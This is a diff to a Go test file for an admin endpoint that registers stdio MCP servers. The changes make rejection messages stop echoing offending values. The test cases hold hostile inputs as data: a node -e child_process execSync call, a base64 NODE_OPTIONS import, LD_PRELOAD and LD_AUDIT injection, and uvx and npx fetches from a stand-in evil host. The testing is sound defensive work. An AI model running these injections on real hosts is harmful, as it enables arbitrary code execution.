@@ -39,11 +39,13 @@ func TestRegisterStdio(t *testing.T) {
 	}, {
 		name: "arguments to a plain command", opts: uvx, method: "POST", path: "/admin/servers", status: 403,
 		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news"]}`,
-		message: `args ["mcp-news"] do not match admin.stdio_commands[0] (uvx)`, problems: []string{"args"},
+		message: "argument 1 is not allowed: admin.stdio_commands[0] (uvx) allows no arguments", problems: []string{"args"},
+		check: noValue("mcp-news"),
 	}, {
 		name: "node -e", opts: node, method: "POST", path: "/admin/servers", status: 403,
 		body:    `{"name":"news","transport":"stdio","command":"node","args":["-e","require('child_process').execSync('id')"]}`,
-		message: `args ["-e","require('child_process').execSync('id')"] do not match admin.stdio_commands[0] (node)`, problems: []string{"args"},
+		message: "argument 1 is not allowed: admin.stdio_commands[0] (node) allows no arguments", problems: []string{"args"},
+		check: noValue("child_process"),
 	}, {
 		name: "NODE_OPTIONS", opts: node, method: "POST", path: "/admin/servers", status: 403,
 		body:    `{"name":"news","transport":"stdio","command":"node","env":{"NODE_OPTIONS":"--import=data:text/javascript;base64,aW1wb3J0KCdub2RlOmZzJyk="}}`,
@@ -70,7 +72,7 @@ func TestRegisterStdio(t *testing.T) {
 	}, {
 		name: "every problem", opts: node, method: "POST", path: "/admin/servers", status: 403,
 		body:     `{"name":"news","transport":"stdio","command":"node","args":["-e","1"],"env":{"NODE_OPTIONS":"x","LD_PRELOAD":"y","K":"z"}}`,
-		message:  "args",
+		message:  "argument 1 is not allowed",
 		problems: []string{"args", "env.K", "env.LD_PRELOAD", "env.NODE_OPTIONS"},
 	}, {
 		name: "a replacement with NODE_OPTIONS", opts: node, method: "PUT", path: "/admin/servers/weather", status: 403,
@@ -83,7 +85,7 @@ func TestRegisterStdio(t *testing.T) {
 	}, {
 		name: "a replacement with arguments", opts: node, method: "PUT", path: "/admin/servers/weather", status: 403,
 		body:    `{"transport":"stdio","command":"node","args":["-e","1"]}`,
-		message: `args ["-e","1"] do not match admin.stdio_commands[0] (node)`, problems: []string{"args"}, check: unchanged,
+		message: "argument 1 is not allowed: admin.stdio_commands[0] (node) allows no arguments", problems: []string{"args"}, check: unchanged,
 	}, {
 		name: "a replacement by POST", opts: node, method: "POST", path: "/admin/servers", status: 403,
 		body:    `{"name":"weather","transport":"stdio","command":"node","env":{"LD_AUDIT":"/tmp/a.so"}}`,
@@ -138,20 +140,32 @@ func TestRegisterStdio_Patterns(t *testing.T) {
 	}, {
 		name: "no match", opts: opts, method: "POST", path: "/admin/servers", status: 403,
 		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["--from","git+https://evil.example/x","mcp-news"]}`,
-		message: `args ["--from","git+https://evil.example/x","mcp-news"] do not match admin.stdio_commands[0] (uvx mcp-*)`, problems: []string{"args"},
+		message: `argument 1 does not match admin.stdio_commands[0] (uvx: pattern 1 is "mcp-*")`, problems: []string{"args"},
+		check: noValue("evil.example"),
 	}, {
 		name: "npx -y another package", opts: opts, method: "POST", path: "/admin/servers", status: 403,
 		body:    `{"name":"news","transport":"stdio","command":"npx","args":["-y","evil","@acme/mcp-fs"]}`,
-		message: `args ["-y","evil","@acme/mcp-fs"] do not match admin.stdio_commands[1] (npx -y @acme/mcp-fs **)`, problems: []string{"args"},
+		message: `argument 2 does not match admin.stdio_commands[1] (npx: pattern 2 is "@acme/mcp-fs")`, problems: []string{"args"},
+		check: noValue("evil"),
 	}, {
-		name: "long arguments are cut", opts: opts, method: "POST", path: "/admin/servers", status: 403,
-		body: string(longBody), problems: []string{"args"},
-		check: func(t *testing.T, ev *env, _ *http.Response, body []byte) {
-			msg := decode[errorBody](t, body).Message
-			if len(msg) > 1024 || !strings.Contains(msg, `"… 92 more"]`) || !strings.Contains(msg, strings.Repeat("a", 64)+`…"`) {
-				t.Errorf("message of %d bytes: %.300s; want at most 1 KiB, 8 arguments of 64 characters shown", len(msg), msg)
-			}
-		},
+		name: "many long arguments", opts: opts, method: "POST", path: "/admin/servers", status: 403,
+		body: string(longBody), message: `argument 1 does not match admin.stdio_commands[0] (uvx: pattern 1 is "mcp-*")`, problems: []string{"args"},
+		check: noValue("aaaa"),
+	}, {
+		name: "a key in the failing argument", opts: opts, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["--api-key=sk-live-5ecret"]}`,
+		message: `argument 1 does not match admin.stdio_commands[0] (uvx: pattern 1 is "mcp-*")`, problems: []string{"args"},
+		check: noValue("5ecret"),
+	}, {
+		name: "a key in an argument too many", opts: opts, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"npx","args":["-y","@acme/mcp-fx","--api-key=sk-live-5ecret"]}`,
+		message: `argument 2 does not match admin.stdio_commands[1] (npx: pattern 2 is "@acme/mcp-fs")`, problems: []string{"args"},
+		check: noValue("5ecret"),
+	}, {
+		name: "a key in an argument too many for a plain pattern", opts: opts, method: "POST", path: "/admin/servers", status: 403,
+		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news","--api-key=sk-live-5ecret"]}`,
+		message: "argument 2 is not allowed: admin.stdio_commands[0] (uvx mcp-*) takes 1 argument", problems: []string{"args"},
+		check: noValue("5ecret"),
 	}, {
 		name: "a hook admin.stdio_env lists", opts: opts, method: "POST", path: "/admin/servers", status: 403,
 		body:    `{"name":"news","transport":"stdio","command":"uvx","args":["mcp-news"],"env":{"NODE_OPTIONS":"--require=/x.js"}}`,
@@ -163,7 +177,11 @@ func TestRegisterStdio_Patterns(t *testing.T) {
 	}, {
 		name: "a replacement that does not", opts: opts, method: "PUT", path: "/admin/servers/weather", status: 403,
 		body:    `{"transport":"stdio","command":"uvx","args":["mcp-weather","--verbose"]}`,
-		message: `args ["mcp-weather","--verbose"] do not match admin.stdio_commands[0] (uvx mcp-*)`, problems: []string{"args"}, check: unchanged,
+		message: "argument 2 is not allowed: admin.stdio_commands[0] (uvx mcp-*) takes 1 argument", problems: []string{"args"},
+		check: func(t *testing.T, ev *env, res *http.Response, body []byte) {
+			unchanged(t, ev, res, body)
+			noValue("--verbose")(t, ev, res, body)
+		},
 	}})
 }
 
